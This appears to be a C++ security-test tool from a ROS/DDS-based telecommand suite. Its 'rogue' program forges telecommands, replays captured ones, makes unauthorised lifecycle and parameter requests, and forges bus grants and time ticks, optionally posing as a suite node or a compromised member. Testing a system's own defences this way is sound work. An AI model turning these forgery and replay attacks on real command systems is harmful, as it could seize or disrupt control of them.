// SPDX-FileCopyrightText: 2026 SRFS contributors
// SPDX-License-Identifier: Apache-2.0
// A program in the suite's DDS domain that is not the suite's and has no key. It forges what it can:
//   rogue VAR telecommand TARGET APID FUNCTION ARGUMENTS(hex)
//       what ttc would publish, ten times
//   rogue VAR replay TARGET
//       waits for ttc's next telecommand to TARGET; a line on stdin: publishes it again
//   rogue VAR transition NODE ID
//       asks for a lifecycle transition
//   rogue VAR parameter NODE NAME INTEGER
//   rogue VAR bus PAYLOADS...
//       until stdin ends: after each flag one for another payload, as of a later grant, so that the holder
//       gives up its slot and ignores all flags that follow; ticks, too
// --claim DEPLOYMENT/NODE/INCARNATION: says that it is this process of the suite.
// --member: has the key of the suite's datagrams, as a node of the suite that turned hostile.
// Prints lines of JSON.

#include <algorithm>
#include <cstdlib>
#include <iostream>
#include <string>

#include <poll.h>
#include <CLI/CLI.hpp>
#include <lifecycle_msgs/srv/change_state.hpp>
#include <nlohmann/json.hpp>
#include <rcl_interfaces/srv/set_parameters.hpp>

#include "base/file.hpp"
#include "base/text.hpp"
#include "ros/client.hpp"
#include "ros/publisher.hpp"
#include "suite/command_keys.hpp"
#include "suite/instance.hpp"
#include "suite/topics.hpp"

namespace {

using namespace srfs;
using srfs_msgs::msg::Telecommand;
constexpr seconds patience{60};
constexpr std::uint64_t far_id = 1ULL << 62U;  // above all that ttc gave out

struct Rogue {
  ros::Executor executor;
  std::unique_ptr<ros::Participant> participant;
  std::vector<std::string> words;

  bool wait(const std::function<bool()>& condition) {
    return executor.spin_until(condition, monotonic_now() + patience);
  }
  void pause(milliseconds time) {
    executor.spin_until([] { return false; }, monotonic_now() + time);
  }
  [[nodiscard]] static bool stdin_has_news() {
    pollfd entry{STDIN_FILENO, POLLIN, 0};
    return poll(&entry, 1, 0) > 0;
  }

  int forge_telecommand() {
    ros::Publisher<Telecommand> telecommands(*participant, suite::topics::telecommand);
    Telecommand m;
    m.id = far_id;
    m.target = words.at(0);
    m.apid = static_cast<std::uint16_t>(std::stoi(words.at(1)));
    m.function_id = static_cast<std::uint16_t>(std::stoi(words.at(2)));
    m.repeat_class = 1;
    m.expiry_ns = static_cast<std::uint64_t>((monotonic_now() + seconds(60)).ns());
    m.arguments = from_hex(words.size() > 3 ? words[3] : "").value();
    m.proof.fill(0x55);
    if (!wait([&] { return telecommands.subscription_count() > 0; })) return 1;
    for (int i = 0; i < 10; ++i, ++m.id) {
      telecommands.publish(m);
      pause(milliseconds(50));
    }
    std::cout << R"({"published": 10})" << std::endl;
    return 0;
  }

  int replay() {
    std::optional<Telecommand> heard;
    ros::Subscription<Telecommand> listener(executor, *participant, suite::topics::telecommand,
                                            [&](const Telecommand& m, const ros::MessageInfo&) {
                                              if (m.target == words.at(0) && !heard) heard = m;
                                            });
    ros::Publisher<Telecommand> telecommands(*participant, suite::topics::telecommand);
    // It is one of both itself; timing, maintenance and three payloads listen, ttc publishes.
    if (!wait([&] { return telecommands.subscription_count() > 5 && listener.publisher_count() > 1; }))
      return 1;
    std::cout << R"({"listening": true})" << std::endl;
    if (!wait([&] { return heard.has_value(); })) return 1;
    std::cout << nlohmann::json{{"heard", heard->id}} << std::endl;
    if (!wait(stdin_has_news)) return 1;
    for (int i = 0; i < 10; ++i) {
      telecommands.publish(*heard);
      pause(milliseconds(50));
    }
    std::cout << R"({"replayed": 10})" << std::endl;
    return 0;
  }

  int transition() {
    using lifecycle_msgs::srv::ChangeState;
    ros::Client<ChangeState> client(executor, *participant, "/" + words.at(0) + "/change_state", ros::Qos{},
                                    ros::Priority::normal);
    ChangeState::Request request;
    request.transition.id = static_cast<std::uint8_t>(std::stoi(words.at(1)));
    std::optional<bool> success;
    client.call(request, patience, 1, [&](const Result<ChangeState::Response, ros::CallError>& answer) {
      success = answer && answer->success;
    });
    if (!wait([&] { return success.has_value(); })) return 1;
    std::cout << nlohmann::json{{"success", *success}} << std::endl;
    return 0;
  }

  int parameter() {
    using rcl_interfaces::srv::SetParameters;
    ros::Client<SetParameters> client(executor, *participant, "/" + words.at(0) + "/set_parameters",
                                      ros::Qos{.depth = 1000}, ros::Priority::normal);
    SetParameters::Request request;
    request.parameters.resize(1);
    request.parameters[0].name = words.at(1);
    request.parameters[0].value.type = 2;
    request.parameters[0].value.integer_value = std::stoll(words.at(2));
    std::optional<nlohmann::json> result;
    client.call(request, patience, 1, [&](const Result<SetParameters::Response, ros::CallError>& answer) {
      result = nlohmann::json{{"success", false}, {"reason", "no answer"}};
      if (answer && !answer->results.empty())
        result =
            nlohmann::json{{"success", answer->results[0].successful}, {"reason", answer->results[0].reason}};
    });
    if (!wait([&] { return result.has_value(); })) return 1;
    std::cout << *result << std::endl;
    return 0;
  }

  int bus() {
    using srfs_msgs::msg::TaskFlags;
    constexpr std::uint32_t later = 100'000'000;
    ros::Publisher<TaskFlags> flags(*participant, suite::topics::task_flags);
    ros::Publisher<srfs_msgs::msg::TimeTick> ticks(*participant, suite::topics::time_tick);
    int forged = 0;
    ros::Subscription<TaskFlags> listener(
        executor, *participant, suite::topics::task_flags, [&](const TaskFlags& m, const ros::MessageInfo&) {
          if (m.holder.empty() || m.grant_counter >= later) return;
          const auto holder = std::find(words.begin(), words.end(), m.holder) - words.begin();
          const std::size_t other = (static_cast<std::size_t>(holder) + 1) % words.size();
          TaskFlags lie = m;
          lie.grant_counter += later;
          lie.holder = words[other];
          lie.flags.assign(m.flags.size(), false);
          lie.flags.at(other) = true;
          flags.publish(lie);
          srfs_msgs::msg::TimeTick tick;
          tick.cycle = m.cycle + 1'000'000;
          tick.monotonic_ns = m.tick_received_ns + 1'000'000;
          tick.period_us = 100'000;
          ticks.publish(tick);
          if (++forged == 20) std::cout << R"({"forged": 20})" << std::endl;
        });
    return wait(stdin_has_news) ? 0 : 1;
  }
};

}  // namespace

int main(int argc, char** argv) {
  std::string var;
  std::string attack;
  std::string claim;
  Rogue rogue;
  CLI::App app{"Forges what the suite's nodes say"};
  app.add_option("VAR", var)->required();
  app.add_option("ATTACK", attack)->required();
  app.add_option("WORDS", rogue.words);
  app.add_option("--claim", claim);
  bool member = false;
  app.add_flag("--member", member);
  CLI11_PARSE(app, argc, argv);

  const auto domain = read_file(suite::VarPaths{var}.domain_file(), 64);
  if (!domain) {
    std::cerr << domain.error().message << '\n';
    return 1;
  }
  ros::ParticipantOptions options{std::atoi(domain->c_str()), {"127.0.0.1"}};
  options.identity = claim.empty() ? std::nullopt : ros::find_identity(as_octets(";srfs=" + claim + ";"));
  options.executor = &rogue.executor;
  const auto key = member ? suite::find_seal_key(suite::VarPaths::at(var)) : std::nullopt;
  if (key) ros::seal_datagrams({*key}, [] { return std::nullopt; });
  auto participant = ros::Participant::create(options);
  if (!participant) {
    std::cerr << participant.error() << '\n';
    return 1;
  }
  rogue.participant = std::move(*participant);
  if (attack == "telecommand") return rogue.forge_telecommand();
  if (attack == "replay") return rogue.replay();
  if (attack == "transition") return rogue.transition();
  if (attack == "parameter") return rogue.parameter();
  if (attack == "bus") return rogue.bus();
  std::cerr << "unknown attack " << attack << '\n';
  return 1;
}
